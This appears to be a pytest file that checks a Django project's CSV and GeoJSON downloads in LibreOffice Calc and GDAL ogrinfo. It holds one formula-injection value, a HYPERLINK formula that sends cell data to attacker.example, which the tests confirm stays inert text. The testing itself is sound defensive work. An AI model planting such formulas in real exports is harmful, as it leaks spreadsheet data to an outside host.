"""The downloads opened by the programs researchers open them with, not only by our own parsers.

A spreadsheet (LibreOffice Calc, headless) opens projects.csv: numbers are numbers, partial dates
stay as written, and a name written like a formula is text, never run. GDAL's ``ogrinfo`` reads
the GeoJSON: one point feature per placed project, typed fields, the values we sent.
Both programs come from Debian's packages (``libreoffice-calc-nogui``, ``gdal-bin``), which
``.ci/run`` installs.
"""

import shutil
import subprocess
from decimal import Decimal

import openpyxl
import pytest

from projects import choices
from projects.models import Project
from tests.factories import ClaimFactory, ProjectFactory

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


def tool(name: str, package: str) -> str:
    path = shutil.which(name)
    if path is None:
        pytest.skip(f"{name} is not installed (Debian package {package})")
    return path


@pytest.fixture
def downloads(demo):
    hostile = ProjectFactory(name=HOSTILE_NAME, country="FR", latitude=50.3, longitude=3.4)
    ClaimFactory(project=hostile, value_number=Decimal("42.5"), status=choices.ClaimStatus.ACCEPTED)
    return {"demo": demo, "hostile": Project.objects.get(pk=hostile.pk)}


def test_a_spreadsheet_opens_the_projects_csv_with_numbers_as_numbers_and_formulas_as_text(client, downloads, tmp_path):
    soffice = tool("soffice", "libreoffice-calc-nogui")
    response = client.get("/data/projects.csv")
    assert response.status_code == 200
    csv_path = tmp_path / "projects.csv"
    csv_path.write_bytes(b"".join(response.streaming_content))

    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation=file://{tmp_path / 'profile'}",
            "--headless",
            "--infilter=CSV:44,34,76,1",  # comma, double quote, UTF-8, from the first row
            "--convert-to",
            "xlsx",
            "--outdir",
            str(tmp_path),
            str(csv_path),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    sheet = openpyxl.load_workbook(tmp_path / "projects.xlsx").active
    header = [cell.value for cell in sheet[1]]
    rows = {row[header.index("slug")].value: dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)}

    demo = rows["escaudain-ai-data-center"]
    assert demo["capacity_mw"].data_type == "n" and demo["capacity_mw"].value == 700
    assert demo["name"].value == "Escaudain AI data center"
    announced = downloads["demo"].announced_on
    if announced is not None and downloads["demo"].announced_precision != choices.DatePrecision.DAY:
        assert demo["announced_on"].data_type == "s"  # "2025-02" stays a month, not a made-up day

    hostile = rows[downloads["hostile"].slug]
    assert hostile["name"].data_type == "s"  # text, not a formula ("f") the spreadsheet would run
    assert hostile["name"].value.lstrip("'") == HOSTILE_NAME
    assert hostile["capacity_mw"].value == 42.5


def test_ogrinfo_reads_the_geojson_download_as_typed_point_features(client, downloads, tmp_path):
    ogrinfo = tool("ogrinfo", "gdal-bin")
    response = client.get("/api/v1/projects/", {"format": "geojson", "page_size": 500})
    assert response.status_code == 200
    path = tmp_path / "projects.geojson"
    path.write_bytes(b"".join(response.streaming_content))

    summary = subprocess.run(
        [ogrinfo, "-ro", "-so", "-al", str(path)], check=True, capture_output=True, text=True, timeout=60
    ).stdout
    placed = Project.objects.filter(is_draft=False, latitude__isnull=False).count()
    assert f"Feature Count: {placed}" in summary
    assert "Geometry: Point" in summary
    assert "capacity_mw: Real" in summary
    assert "name: String" in summary

    demo = subprocess.run(
        [ogrinfo, "-ro", "-al", "-q", "-where", "slug = 'escaudain-ai-data-center'", str(path)],
        check=True,
        capture_output=True,
        text=True,
        timeout=60,
    ).stdout
    assert "capacity_mw (Real) = 700" in demo
    assert "POINT (3.34" in demo and " 50.33" in demo  # longitude first
    hostile = subprocess.run(
        [ogrinfo, "-ro", "-al", "-q", "-where", f"slug = '{downloads['hostile'].slug}'", str(path)],
        check=True,
        capture_output=True,
        text=True,
        timeout=60,
    ).stdout
    assert f"name (String) = {HOSTILE_NAME}" in hostile
